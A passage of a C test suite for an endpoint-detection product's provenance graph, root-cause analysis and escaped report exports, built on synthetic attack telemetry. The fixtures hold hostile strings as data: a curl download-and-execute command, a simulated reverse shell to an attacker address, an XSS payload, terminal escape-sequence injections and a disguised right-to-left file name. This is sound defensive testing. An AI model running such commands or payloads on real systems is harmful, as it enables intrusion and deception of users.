/* Provenance graph and root-cause analysis on hand-made and synthetic telemetry; exports and their escaping. */
#include "edr_test.h"

#include "edr/arena.h"
#include "edr/err.h"
#include "edr/graph.h"
#include "edr/identity.h"
#include "edr/synth.h"

#include <graphviz/cgraph.h>
#include <jansson.h>
#include <stdlib.h>
#include <string.h>

/* ------------------------------------------------------------ a tiny event builder */

typedef struct {
    edr_arena_t a;
    Edr__V1__EventBatch b;
    Edr__V1__SensorInfo si;
    Edr__V1__Event *ev[256];
    uint8_t host[16];
    uint64_t t;
} bld_t;

static void bld_init(bld_t *x, const char *hostname)
{
    memset(x, 0, sizeof(*x));
    edr_arena_init(&x->a, 1 << 16);
    edr_host_id_from_name(hostname, x->host);
    edr__v1__sensor_info__init(&x->si);
    x->si.host_id.data = x->host;
    x->si.host_id.len = 16;
    x->si.hostname = (char *)hostname;
    edr__v1__event_batch__init(&x->b);
    x->b.sensor = &x->si;
    x->b.events = x->ev;
    x->t = 1767225600ull * 1000000000ull;
    x->b.base_time_ns = x->t;
}

static void pid_id(const bld_t *x, uint32_t pid, uint8_t out[16])
{
    uint8_t boot[16] = {7};
    edr_entity_id(x->host, boot, pid, pid * 1000ull, out);
}

static Edr__V1__Event *ev_new(bld_t *x, uint32_t pid, uint32_t ppid)
{
    Edr__V1__Event *e = edr_arena_alloc(&x->a, sizeof(*e));
    edr__v1__event__init(e);
    x->t += 1000000; /* 1 ms apart */
    e->time_offset_ns = (int64_t)(x->t - x->b.base_time_ns);
    e->pid = e->tid = pid;
    uint8_t id[16];
    pid_id(x, pid, id);
    e->entity_id.data = edr_arena_dup(&x->a, id, 16);
    e->entity_id.len = 16;
    if (ppid) {
        pid_id(x, ppid, id);
        e->parent_entity_id.data = edr_arena_dup(&x->a, id, 16);
        e->parent_entity_id.len = 16;
    }
    x->ev[x->b.n_events++] = e;
    return e;
}

static void ev_start(bld_t *x, uint32_t pid, uint32_t ppid, const char *exe, const char *cmd)
{
    Edr__V1__Event *e = ev_new(x, pid, ppid);
    Edr__V1__ProcessStart *ps = edr_arena_alloc(&x->a, sizeof(*ps));
    edr__v1__process_start__init(ps);
    ps->exe = edr_arena_strdup(&x->a, exe);
    ps->command_line = edr_arena_strdup(&x->a, cmd);
    ps->start_time_ns = x->t;
    e->body_case = EDR__V1__EVENT__BODY_PROCESS_START;
    e->process_start = ps;
}

static void ev_net(bld_t *x, uint32_t pid, int accept, const uint8_t ip[4], uint32_t port)
{
    Edr__V1__Event *e = ev_new(x, pid, 0);
    Edr__V1__Network *nw = edr_arena_alloc(&x->a, sizeof(*nw));
    edr__v1__network__init(nw);
    nw->action = accept ? EDR__V1__NETWORK__ACTION__ACCEPT : EDR__V1__NETWORK__ACTION__CONNECT;
    nw->protocol = EDR__V1__NETWORK__PROTOCOL__TCP;
    Edr__V1__Endpoint *l = edr_arena_alloc(&x->a, sizeof(*l)), *r = edr_arena_alloc(&x->a, sizeof(*r));
    edr__v1__endpoint__init(l);
    edr__v1__endpoint__init(r);
    static const uint8_t me[4] = {10, 1, 1, 1};
    l->ip.data = (uint8_t *)me;
    l->ip.len = 4;
    l->port = accept ? port : 50000;
    r->ip.data = edr_arena_dup(&x->a, ip, 4);
    r->ip.len = 4;
    r->port = accept ? 50001 : port;
    nw->local = l;
    nw->remote = r;
    e->body_case = EDR__V1__EVENT__BODY_NETWORK;
    e->network = nw;
}

static void ev_write(bld_t *x, uint32_t pid, const char *path)
{
    Edr__V1__Event *e = ev_new(x, pid, 0);
    Edr__V1__FileWrite *w = edr_arena_alloc(&x->a, sizeof(*w));
    edr__v1__file_write__init(w);
    w->path = edr_arena_strdup(&x->a, path);
    e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
    e->file_write = w;
}

static void ev_mmap(bld_t *x, uint32_t pid, const char *path)
{
    Edr__V1__Event *e = ev_new(x, pid, 0);
    Edr__V1__FileExec *fx = edr_arena_alloc(&x->a, sizeof(*fx));
    edr__v1__file_exec__init(fx);
    fx->path = edr_arena_strdup(&x->a, path);
    fx->mapped = 1;
    e->body_case = EDR__V1__EVENT__BODY_FILE_EXEC;
    e->file_exec = fx;
}

static uint32_t node_of(bld_t *x, edr_graph_t *g, uint32_t pid)
{
    uint8_t id[16];
    pid_id(x, pid, id);
    return edr_graph_find_entity(g, id);
}

static const uint8_t attacker[4] = {203, 0, 113, 66};

/* systemd(1) -> nginx(100) accepts the attacker, fetches, spawns sh(200) -> sh(201) -> id(202);
 * nginx also serves a normal client and spawns a benign worker (150). */
static edr_graph_t *service_exploit_graph(bld_t *x)
{
    static const uint8_t client[4] = {192, 0, 2, 10};
    bld_init(x, "web-1");
    ev_start(x, 1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
    ev_start(x, 100, 1, "/usr/sbin/nginx", "nginx: master process");
    for (int i = 0; i < 20; i++)
        ev_net(x, 100, 1, client, 443);
    ev_start(x, 150, 100, "/usr/bin/logrotate", "logrotate /etc/logrotate.conf");
    ev_write(x, 100, "/proc/self/status");
    ev_net(x, 100, 1, attacker, 443);
    ev_net(x, 100, 0, attacker, 8888);
    ev_start(x, 200, 100, "/usr/bin/sh", "sh -c <script>alert(1)</script> | bash");
    ev_start(x, 201, 200, "/usr/bin/sh", "sh -i");
    ev_net(x, 201, 0, attacker, 4444);
    ev_write(x, 201, "/tmp/.x");
    ev_start(x, 202, 201, "/usr/bin/id", "id");
    ev_start(x, 151, 100, "/usr/bin/logrotate", "logrotate again");
    edr_graph_t *g = edr_graph_new();
    assert_non_null(g);
    assert_int_equal(edr_graph_add_batch(g, &x->b), 0);
    return g;
}

static void test_build_and_find(void **state)
{
    (void)state;
    bld_t x;
    edr_graph_t *g = service_exploit_graph(&x);
    assert_true(edr_graph_edge_size() <= 64);
    assert_true(edr_graph_edge_count(g) >= 10);
    uint32_t n = edr_graph_find_pid(g, NULL, 202, 0, NULL);
    assert_int_equal(n, node_of(&x, g, 202));
    edr_graph_node_info_t in;
    assert_int_equal(edr_graph_node(g, n, &in), 0);
    assert_int_equal(in.kind, EDR_NODE_PROCESS);
    assert_string_equal(in.executable, "/usr/bin/id");
    assert_string_equal(in.hostname, "web-1");
    assert_int_equal(in.parent, node_of(&x, g, 201));
    assert_int_equal(edr_graph_node(g, 1u << 30, &in), EDR_ERANGE);
    uint8_t hid[16];
    assert_int_equal(edr_graph_find_host(g, "WEB-1", hid), 0);
    assert_int_equal(edr_graph_find_host(g, "nope", hid), EDR_ENOENT);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* A parent that has no event of its own (it started before the sensor or
 * the import) keeps the pid its child's start names: it showed as
 * "process (0)", and the root cause's reason named it with an empty name. */
static void test_unseen_parent_keeps_pid(void **state)
{
    (void)state;
    bld_t x;
    bld_init(&x, "web-2");
    ev_start(&x, 300, 77, "/usr/bin/sh", "sh -c id");
    x.ev[x.b.n_events - 1]->process_start->ppid = 77;
    edr_graph_t *g = edr_graph_new();
    assert_non_null(g);
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    edr_graph_node_info_t in;
    assert_int_equal(edr_graph_node(g, node_of(&x, g, 300), &in), 0);
    uint32_t parent = in.parent;
    assert_int_equal(parent, node_of(&x, g, 77));
    assert_int_equal(edr_graph_node(g, parent, &in), 0);
    assert_int_equal(in.pid, 77);
    assert_int_equal(edr_graph_find_pid(g, NULL, 77, 0, NULL), parent);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* What the compact layout keeps beside the edges and nodes reads back as
 * added: ports of accepted and made connections, access masks, parents,
 * users, and pattern counts past 16 bits; the memory parts add up. */
static void test_compact_layout(void **state)
{
    (void)state;
    bld_t x;
    edr_graph_t *g = service_exploit_graph(&x);
    assert_int_equal(edr_graph_edge_size(), 24);
    size_t accepts = 0, connects = 0;
    for (uint32_t e = 0; e < edr_graph_edge_count(g); e++) {
        edr_graph_edge_info_t ei;
        assert_int_equal(edr_graph_edge(g, e, &ei), 0);
        if (ei.kind == EDR_EDGE_ACCEPT) {
            assert_int_equal(ei.aux, 50001); /* the peer's port */
            accepts++;
        } else if (ei.kind == EDR_EDGE_CONNECT) {
            edr_graph_node_info_t rn;
            assert_int_equal(edr_graph_node(g, ei.dst, &rn), 0);
            assert_true(ei.aux == 8888 || ei.aux == 4444);
            assert_int_equal(ei.aux, rn.port);
            connects++;
        } else
            assert_int_equal(ei.aux, 0);
    }
    assert_int_equal(accepts, 21);
    assert_int_equal(connects, 2);
    edr_graph_node_info_t in;
    assert_int_equal(edr_graph_node(g, node_of(&x, g, 1), &in), 0);
    assert_int_equal(in.parent, EDR_GRAPH_NONE);
    assert_int_equal(edr_graph_node(g, node_of(&x, g, 151), &in), 0);
    assert_int_equal(in.parent, node_of(&x, g, 100));
    assert_string_equal(in.user, "");
    edr_graph_mem_t m;
    assert_int_equal(edr_graph_memory_parts(g, &m), edr_graph_memory(g));
    assert_int_equal(m.total, m.nodes + m.edges + m.index + m.strings + m.intern + m.hosts + m.flows + m.peers +
                                  m.patterns + m.users + m.aux);
    assert_true(m.edges >= edr_graph_edge_count(g) * 24);

    /* a user, an access with its mask, then 70,000 writes of one process into one directory */
    edr_arena_reset(&x.a);
    x.b.n_events = 0;
    ev_start(&x, 300, 100, "/usr/bin/writer", "writer");
    x.ev[0]->process_start->user = "www-data";
    Edr__V1__Event *e = ev_new(&x, 300, 0);
    Edr__V1__ProcessAccess *pa = edr_arena_alloc(&x.a, sizeof(*pa));
    edr__v1__process_access__init(pa);
    uint8_t tid[16];
    pid_id(&x, 151, tid);
    pa->target_entity_id.data = edr_arena_dup(&x.a, tid, 16);
    pa->target_entity_id.len = 16;
    pa->access_mask = 0x1fffff;
    e->body_case = EDR__V1__EVENT__BODY_PROCESS_ACCESS;
    e->process_access = pa;
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    uint32_t acc = (uint32_t)edr_graph_edge_count(g) - 1;
    edr_graph_edge_info_t ei;
    assert_int_equal(edr_graph_edge(g, acc, &ei), 0);
    assert_int_equal(ei.kind, EDR_EDGE_ACCESS);
    assert_int_equal(ei.aux, 0x1fffff);
    assert_int_equal(edr_graph_node(g, node_of(&x, g, 300), &in), 0);
    assert_string_equal(in.user, "www-data");
    assert_int_equal(in.parent, node_of(&x, g, 100));
    uint32_t first = EDR_GRAPH_NONE;
    for (int i = 0; i < 70000;) {
        edr_arena_reset(&x.a);
        x.b.n_events = 0;
        for (int k = 0; k < 250; k++, i++) {
            char path[64];
            snprintf(path, sizeof(path), "/srv/out/f%d", i);
            ev_write(&x, 300, path);
        }
        assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
        if (first == EDR_GRAPH_NONE)
            first = (uint32_t)edr_graph_edge_count(g) - 250;
    }
    assert_int_equal(edr_graph_edge_rarity(g, first), 70000);
    assert_int_equal(edr_graph_edge_rarity(g, (uint32_t)edr_graph_edge_count(g) - 1), 70000);
    assert_int_equal(edr_graph_edge_rarity(g, acc), 1);
    assert_int_equal(edr_graph_edge(g, acc, &ei), 0);
    assert_int_equal(ei.aux, 0x1fffff);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

static void test_service_exploit(void **state)
{
    (void)state;
    bld_t x;
    edr_graph_t *g = service_exploit_graph(&x);
    int err = 0;
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 202), 0, NULL, &err);
    assert_non_null(r);
    assert_int_equal(r->root, node_of(&x, g, 100));
    assert_int_equal(r->cls, EDR_RCA_INBOUND_CONNECTION);
    edr_graph_node_info_t in;
    assert_int_equal(edr_graph_node(g, r->entry, &in), 0);
    assert_int_equal(in.kind, EDR_NODE_REMOTE);
    assert_memory_equal(in.ip, attacker, 4);
    /* chain: root first, then the attack; not the benign siblings nor systemd */
    assert_int_equal(r->chain[0].node, r->root);
    assert_true(edr_rca_in_chain(r, node_of(&x, g, 200)));
    assert_true(edr_rca_in_chain(r, node_of(&x, g, 201)));
    assert_true(edr_rca_in_chain(r, node_of(&x, g, 202)));
    assert_false(edr_rca_in_chain(r, node_of(&x, g, 150)));
    assert_false(edr_rca_in_chain(r, node_of(&x, g, 151)));
    assert_false(edr_rca_in_chain(r, node_of(&x, g, 1)));
    for (size_t i = 1; i < r->n_chain; i++)
        assert_true(r->chain[i].time_ns >= r->chain[i - 1].time_ns || i == 1);
    /* impact: the dropped file and the callback, not /proc */
    int tmpx = 0, proc = 0;
    for (size_t i = 0; i < r->n_impact; i++) {
        edr_graph_node(g, r->impact[i].node, &in);
        tmpx += in.kind == EDR_NODE_FILE && !strcmp(in.path, "/tmp/.x");
        proc += in.kind == EDR_NODE_FILE && !strncmp(in.path, "/proc", 5);
    }
    assert_int_equal(tmpx, 1);
    assert_int_equal(proc, 0);
    edr_rca_destroy(r);
    /* a node that does not exist */
    assert_null(edr_rca_run(g, 1u << 30, 0, NULL, &err));
    assert_int_equal(err, EDR_ERANGE);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* sshd(10) -> bash(20) runs curl(21) that downloads /tmp/p and bash runs it (22) -> whoami (23).
 * A second file written AFTER it was executed must not count as a download. */
static void test_download_execute_and_time_order(void **state)
{
    (void)state;
    bld_t x;
    bld_init(&x, "ws-1");
    ev_start(&x, 10, 0, "/usr/sbin/sshd", "sshd: alice");
    ev_start(&x, 15, 10, "/tmp/p", "/tmp/p"); /* an older /tmp/p, run before the download */
    x.t += 10000000000ull;
    ev_start(&x, 20, 10, "/usr/bin/bash", "-bash");
    ev_start(&x, 21, 20, "/usr/bin/curl", "curl -o /tmp/p http://203.0.113.66/p");
    ev_net(&x, 21, 0, attacker, 80);
    ev_write(&x, 21, "/tmp/p");
    ev_start(&x, 22, 20, "/tmp/p", "/tmp/p");
    ev_start(&x, 23, 22, "/usr/bin/whoami", "whoami");
    ev_start(&x, 30, 20, "/tmp/q", "/tmp/q"); /* executed first ... */
    x.t += 10000000000ull; /* well past the clock-skew tolerance */
    ev_start(&x, 31, 20, "/usr/bin/curl", "curl -o /tmp/q http://203.0.113.66/q");
    ev_net(&x, 31, 0, attacker, 80);
    ev_write(&x, 31, "/tmp/q"); /* ... written later: not its cause */
    edr_graph_t *g = edr_graph_new();
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 23), 0, NULL, NULL);
    assert_non_null(r);
    assert_int_equal(r->cls, EDR_RCA_DOWNLOAD_EXECUTE);
    edr_graph_node_info_t in;
    edr_graph_node(g, r->root, &in);
    assert_int_equal(in.kind, EDR_NODE_FILE);
    assert_string_equal(in.path, "/tmp/p");
    assert_int_equal(r->entry, node_of(&x, g, 21));
    assert_true(edr_rca_in_chain(r, node_of(&x, g, 21)));
    assert_true(edr_rca_in_chain(r, node_of(&x, g, 22)));
    assert_false(edr_rca_in_chain(r, node_of(&x, g, 20))); /* the user's shell is not the attack */
    assert_false(edr_rca_in_chain(r, node_of(&x, g, 10)));
    int run22 = 0;
    for (size_t i = 0; i < r->n_impact; i++) {
        if (r->impact[i].node == node_of(&x, g, 15))
            fail_msg("a run of /tmp/p before its download is in the impact");
        run22 |= r->impact[i].node == node_of(&x, g, 22);
    }
    assert_true(run22);
    edr_rca_destroy(r);
    r = edr_rca_run(g, node_of(&x, g, 30), 0, NULL, NULL);
    assert_non_null(r);
    assert_int_equal(r->cls, EDR_RCA_USER_SESSION);
    assert_int_equal(r->root, node_of(&x, g, 20));
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* ------------------------------------------------------------ synthetic attacks */

static int truth_has(const edr_synth_attack_t *at, const edr_graph_node_info_t *in)
{
    for (size_t i = 0; i < at->n_truth; i++) {
        const edr_synth_truth_t *t = &at->truth[i];
        if (memcmp(t->host_id, in->host_id, 16))
            continue;
        if (t->kind == 1 && in->kind == EDR_NODE_PROCESS && !memcmp(t->entity_id, in->entity_id, 16))
            return 1;
        if (t->kind == 2 && in->kind == EDR_NODE_FILE && !strcmp(t->path, in->path))
            return 1;
        if (t->kind == 3 && in->kind == EDR_NODE_REMOTE && in->ip_len == 4 && !memcmp(t->ip, in->ip, 4))
            return 1;
    }
    return 0;
}

static void test_synth_attacks(void **state)
{
    (void)state;
    edr_synth_opts_t so = {.hosts = 8, .seed = 42};
    edr_synth_t *s = edr_synth_new(&so);
    assert_non_null(s);
    edr_synth_attack_spec_t sp[] = {
        {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 0, 0, 3, 2000},
        {EDR_SYNTH_ATTACK_DOWNLOAD_EXECUTE, 1, 0, 2, 2500},
        {EDR_SYNTH_ATTACK_LATERAL, 2, 5, 4, 1500},
        {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 3, 0, 8, 3000},
    };
    for (size_t i = 0; i < 4; i++)
        assert_int_equal(edr_synth_add_attack(s, &sp[i]), (int)i);
    edr_synth_attack_spec_t busy = {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 0, 0, 2, 0};
    assert_int_equal(edr_synth_add_attack(s, &busy), EDR_EBUSY);
    busy.depth = 0;
    busy.host = 7;
    assert_int_equal(edr_synth_add_attack(s, &busy), EDR_EINVAL);
    edr_graph_t *g = edr_graph_new();
    edr_arena_t a;
    edr_arena_init(&a, 1 << 20);
    for (uint32_t h = 0; h < 8; h++) {
        Edr__V1__EventBatch *b = edr_synth_seed_batch(s, h, &a);
        assert_non_null(b);
        assert_int_equal(edr_graph_add_batch(g, b), 0);
        edr_arena_reset(&a);
    }
    for (int round = 0; round < 60; round++)
        for (uint32_t h = 0; h < 8; h++) {
            Edr__V1__EventBatch *b = edr_synth_next_batch(s, h, 100, &a);
            assert_non_null(b);
            assert_int_equal(edr_graph_add_batch(g, b), 0);
            edr_arena_reset(&a);
        }
    for (size_t i = 0; i < edr_synth_attack_count(s); i++) {
        const edr_synth_attack_t *at = edr_synth_attack(s, i);
        assert_true(at->done);
        uint32_t start = edr_graph_find_entity(g, at->alert.entity_id);
        assert_int_not_equal(start, EDR_GRAPH_NONE);
        for (int from_first = 0; from_first < 2; from_first++) {
            uint32_t st = from_first ? edr_graph_find_entity(g, at->first.entity_id) : start;
            edr_rca_t *r = edr_rca_run(g, st, 0, NULL, NULL);
            assert_non_null(r);
            edr_graph_node_info_t in;
            edr_graph_node(g, r->root, &in);
            assert_int_equal((int)r->cls, at->root_class);
            assert_true(truth_has(at, &in));
            if (at->root.kind == 1)
                assert_memory_equal(in.entity_id, at->root.entity_id, 16);
            else
                assert_string_equal(in.path, at->root.path);
            size_t hit = 0;
            for (size_t k = 0; k < r->n_chain; k++) {
                edr_graph_node(g, r->chain[k].node, &in);
                if (truth_has(at, &in))
                    hit++;
                else
                    fail_msg("attack %zu: chain holds a non-attack %s node %s%s pid %u ip %u.%u.%u.%u:%u role %d",
                             i, in.kind == EDR_NODE_PROCESS ? "process" : in.kind == EDR_NODE_FILE ? "file" : "remote",
                             in.executable, in.path, in.pid, in.ip[0], in.ip[1], in.ip[2], in.ip[3], in.port,
                             r->chain[k].role);
            }
            /* every truth entity is in the chain (recall 1) */
            for (size_t k = 0; k < at->n_truth; k++) {
                int found = 0;
                for (size_t j = 0; j < r->n_chain && !found; j++) {
                    edr_graph_node(g, r->chain[j].node, &in);
                    const edr_synth_truth_t *t = &at->truth[k];
                    found = !memcmp(t->host_id, in.host_id, 16) &&
                            ((t->kind == 1 && in.kind == EDR_NODE_PROCESS && !memcmp(t->entity_id, in.entity_id, 16)) ||
                             (t->kind == 2 && in.kind == EDR_NODE_FILE && !strcmp(t->path, in.path)) ||
                             (t->kind == 3 && in.kind == EDR_NODE_REMOTE && !memcmp(t->ip, in.ip, 4)));
                }
                if (!found)
                    fail_msg("attack %zu (kind %d) from %s: truth entity %zu (kind %u) missing", i,
                             at->spec.kind, from_first ? "first" : "alert", k, at->truth[k].kind);
            }
            assert_true(hit > 3);
            edr_rca_destroy(r);
        }
    }
    edr_arena_close(&a);
    edr_graph_destroy(g);
    edr_synth_destroy(s);
}

/* With no attack planned the synthetic stream is unchanged by the attack code. */
static void test_synth_unchanged(void **state)
{
    (void)state;
    edr_synth_opts_t so = {.hosts = 2, .seed = 9};
    edr_synth_t *s1 = edr_synth_new(&so), *s2 = edr_synth_new(&so);
    edr_synth_attack_spec_t sp = {EDR_SYNTH_ATTACK_SERVICE_EXPLOIT, 1, 0, 2, 1u << 30};
    assert_int_equal(edr_synth_add_attack(s2, &sp), 0); /* on host 1, and far in the future */
    edr_arena_t a1, a2;
    edr_arena_init(&a1, 1 << 16);
    edr_arena_init(&a2, 1 << 16);
    for (int i = 0; i < 20; i++) {
        Edr__V1__EventBatch *b1 = edr_synth_next_batch(s1, (uint32_t)i % 2, 50, &a1);
        Edr__V1__EventBatch *b2 = edr_synth_next_batch(s2, (uint32_t)i % 2, 50, &a2);
        size_t l1 = edr__v1__event_batch__get_packed_size(b1), l2 = edr__v1__event_batch__get_packed_size(b2);
        assert_int_equal(l1, l2);
        uint8_t *p1 = malloc(l1), *p2 = malloc(l2);
        edr__v1__event_batch__pack(b1, p1);
        edr__v1__event_batch__pack(b2, p2);
        assert_memory_equal(p1, p2, l1);
        free(p1);
        free(p2);
        edr_arena_reset(&a1);
        edr_arena_reset(&a2);
    }
    edr_arena_close(&a1);
    edr_arena_close(&a2);
    edr_synth_destroy(s1);
    edr_synth_destroy(s2);
}

/* ------------------------------------------------------------ exports */

static char *export_str(edr_graph_t *g, edr_rca_t *r, edr_export_format_t f)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *m = open_memstream(&buf, &len);
    const char *acts[] = {"killed process <b>201</b>"};
    edr_export_opts_t o = {.actions = acts, .n_actions = 1};
    assert_int_equal(edr_rca_export(g, r, f, &o, m), 0);
    fclose(m);
    assert_true(len > 100);
    return buf;
}

static void test_exports_escape(void **state)
{
    (void)state;
    bld_t x;
    edr_graph_t *g = service_exploit_graph(&x);
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 202), 0, NULL, NULL);
    assert_non_null(r);
    edr_export_format_t f;
    assert_int_equal(edr_export_format_parse("graphml", &f), 0);
    assert_int_equal(f, EDR_EXPORT_GRAPHML);
    assert_int_equal(edr_export_format_parse("pdf", &f), EDR_EINVAL);

    char *dot = export_str(g, r, EDR_EXPORT_DOT);
    Agraph_t *ag = agmemread(dot);
    assert_non_null(ag); /* graphviz parses our DOT */
    assert_true(agnnodes(ag) >= 5);
    agclose(ag);
    free(dot);

    char *js = export_str(g, r, EDR_EXPORT_CYJS);
    json_error_t je;
    json_t *o = json_loads(js, 0, &je);
    assert_non_null(o);
    assert_true(json_array_size(json_object_get(json_object_get(o, "elements"), "nodes")) >= 5);
    json_decref(o);
    free(js);

    char *stix = export_str(g, r, EDR_EXPORT_STIX);
    o = json_loads(stix, 0, &je);
    assert_non_null(o);
    assert_string_equal(json_string_value(json_object_get(o, "type")), "bundle");
    int have_obs = 0, have_ind = 0, have_rel = 0;
    json_t *objs = json_object_get(o, "objects"), *it;
    size_t i;
    json_array_foreach(objs, i, it)
    {
        const char *t = json_string_value(json_object_get(it, "type"));
        have_obs += !strcmp(t, "observed-data");
        have_ind += !strcmp(t, "indicator");
        have_rel += !strcmp(t, "relationship");
        assert_string_equal(json_string_value(json_object_get(it, "spec_version")), "2.1");
    }
    assert_int_equal(have_obs, 1);
    assert_true(have_ind >= 1 && have_rel >= 1);
    json_decref(o);
    free(stix);

    char *gml = export_str(g, r, EDR_EXPORT_GRAPHML);
    assert_null(strstr(gml, "<script"));
    assert_non_null(strstr(gml, "&lt;script&gt;"));
    free(gml);

    char *svg = export_str(g, r, EDR_EXPORT_SVG);
    assert_non_null(strstr(svg, "<svg"));
    assert_null(strstr(svg, "<script"));
    free(svg);

    char *html = export_str(g, r, EDR_EXPORT_HTML);
    assert_non_null(strstr(html, "<svg"));
    assert_null(strstr(html, "<script"));
    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_non_null(strstr(html, "killed process &lt;b&gt;201&lt;/b&gt;"));
    assert_null(strstr(html, "src=\"http")); /* nothing to fetch: self-contained */
    assert_null(strstr(html, "<link"));
    free(html);

    char *buf = NULL;
    size_t len = 0;
    FILE *m = open_memstream(&buf, &len);
    assert_int_equal(edr_rca_write_json(g, r, m), 0);
    fclose(m);
    o = json_loads(buf, 0, &je);
    assert_non_null(o);
    json_t *rc = json_object_get(o, "root_cause");
    assert_string_equal(json_string_value(json_object_get(rc, "class")), "inbound_connection");
    assert_string_equal(json_string_value(json_object_get(rc, "kind")), "process");
    assert_int_equal(json_integer_value(json_object_get(rc, "pid")), 100);
    json_t *chain = json_object_get(o, "chain");
    assert_true(json_array_size(chain) >= 5);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(chain, 0), "pid")), 100);
    assert_non_null(json_object_get(o, "impact"));
    json_decref(o);
    free(buf);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* Graphviz decodes character references in labels: telemetry holding
 * "&#27;" or "&#x202E;" (plain ASCII, so edr__clean keeps it) became a raw
 * ESC or a right-to-left override in the SVG and the card (a disguised file
 * name, escape sequences for whoever cats the file, an SVG that is not XML).
 * A dense subgraph is drawn reduced, and says so: the dot layout of a
 * crafted 1,079-edge one took minutes. */
static void test_svg_entities_and_size(void **state)
{
    (void)state;
    static const uint8_t attacker_ip[4] = {203, 0, 113, 9};
    bld_t x;
    bld_init(&x, "web-2");
    ev_start(&x, 1, 0, "/usr/lib/systemd/systemd", "/sbin/init");
    ev_start(&x, 100, 1, "/usr/sbin/nginx", "nginx: master process");
    ev_net(&x, 100, 1, attacker_ip, 443);
    ev_start(&x, 200, 100, "/tmp/invoice&#x202E;fdp.exe", "x &#27;]2;pwned&#7; &#27;[2J");
    ev_start(&x, 201, 200, "/usr/bin/id", "id");
    edr_graph_t *g = edr_graph_new();
    assert_non_null(g);
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    edr_rca_t *r = edr_rca_run(g, node_of(&x, g, 201), 0, NULL, NULL);
    assert_non_null(r);
    for (int fmt = 0; fmt < 2; fmt++) {
        char *out = export_str(g, r, fmt ? EDR_EXPORT_HTML : EDR_EXPORT_SVG);
        assert_null(strchr(out, 0x1b));
        assert_null(strchr(out, 0x07));
        assert_null(strstr(out, "\xe2\x80\xae"));
        assert_non_null(strstr(out, "invoice&amp;#x202E;fdp.exe"));
        assert_null(strstr(out, "graph reduced"));
        free(out);
    }
    edr_rca_destroy(r);

    /* the same service's shell writes 300 files, then maps 300 of them */
    for (int i = 0; i < 600;) {
        edr_arena_reset(&x.a);
        x.b.n_events = 0;
        for (int k = 0; k < 200; k++, i++) {
            char path[64];
            snprintf(path, sizeof(path), "/srv/lib/l%d.so", i % 300);
            if (i < 300)
                ev_write(&x, 200, path);
            else
                ev_mmap(&x, 201, path);
        }
        assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    }
    edr_rca_opts_t ro;
    edr_rca_opts_default(&ro);
    ro.max_fanin = 1000;
    r = edr_rca_run(g, node_of(&x, g, 201), 0, &ro, NULL);
    assert_non_null(r);
    assert_true(r->n_edges > 250);
    char *svg = export_str(g, r, EDR_EXPORT_SVG);
    assert_non_null(strstr(svg, "graph reduced: 250 of"));
    free(svg);
    char *dot = export_str(g, r, EDR_EXPORT_DOT); /* the DOT export itself is whole */
    assert_null(strstr(dot, "graph reduced"));
    free(dot);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
}

/* Events without a usable actor or with odd fields are skipped, not fatal. */
/* Ids are hashes anyone can compute: a forged process start that takes the
 * id of a remote address node stays a process of its own, and the remote
 * keeps its address (its first byte was read as the address length: a
 * 'z' copied 122 bytes into a 16-byte field, on the stack). */
static void test_forged_id_of_another_kind(void **state)
{
    (void)state;
    bld_t x;
    bld_init(&x, "forged");
    ev_start(&x, 10, 1, "/usr/bin/sshd", "sshd");
    ev_net(&x, 10, 1, attacker, 22);
    edr_graph_t *g = edr_graph_new();
    assert_int_equal(edr_graph_add_batch(g, &x.b), 0);
    uint32_t rn = EDR_GRAPH_NONE;
    edr_graph_node_info_t in;
    for (uint32_t n = 0; n < edr_graph_node_count(g); n++) {
        edr_graph_node(g, n, &in);
        if (in.kind == EDR_NODE_REMOTE)
            rn = n;
    }
    assert_int_not_equal(rn, EDR_GRAPH_NONE);
    edr_graph_node(g, rn, &in);
    uint8_t rid[16];
    memcpy(rid, in.entity_id, 16);

    bld_t y;
    bld_init(&y, "forged");
    char zs[300];
    memset(zs, 'z', sizeof(zs) - 1);
    zs[sizeof(zs) - 1] = 0;
    ev_start(&y, 11, 10, zs, zs);
    y.ev[0]->entity_id.data = rid;
    assert_int_equal(edr_graph_add_batch(g, &y.b), 0);
    for (uint32_t n = 0; n < edr_graph_node_count(g); n++)
        edr_graph_node(g, n, &in); /* as eviction and every exporter do */
    edr_graph_node(g, rn, &in);
    assert_int_equal(in.kind, EDR_NODE_REMOTE);
    assert_int_equal(in.ip_len, 4);
    assert_memory_equal(in.ip, attacker, 4);
    uint32_t pn = edr_graph_find_entity(g, rid);
    assert_int_not_equal(pn, rn);
    edr_graph_node(g, pn, &in);
    assert_int_equal(in.kind, EDR_NODE_PROCESS);
    edr_rca_t *r = edr_rca_run(g, pn, 0, NULL, NULL);
    assert_non_null(r);
    edr_rca_destroy(r);
    edr_graph_destroy(g);
    edr_arena_close(&x.a);
    edr_arena_close(&y.a);
}

/* An ancestry longer than the causal path holds (300 nested shells): the
 * analysis says so (truncated), and its chain still holds the process it
 * started from (path pushes refused for room let the walk go on without
 * them: the root was off the path and the chain lost its start). */
static void test_long_ancestry_keeps_start(void **state)
{
    (void)state;
    edr_graph_t *g = edr_graph_new();
    uint32_t pid = 1000;
    for (int batch = 0; batch < 2; batch++) {
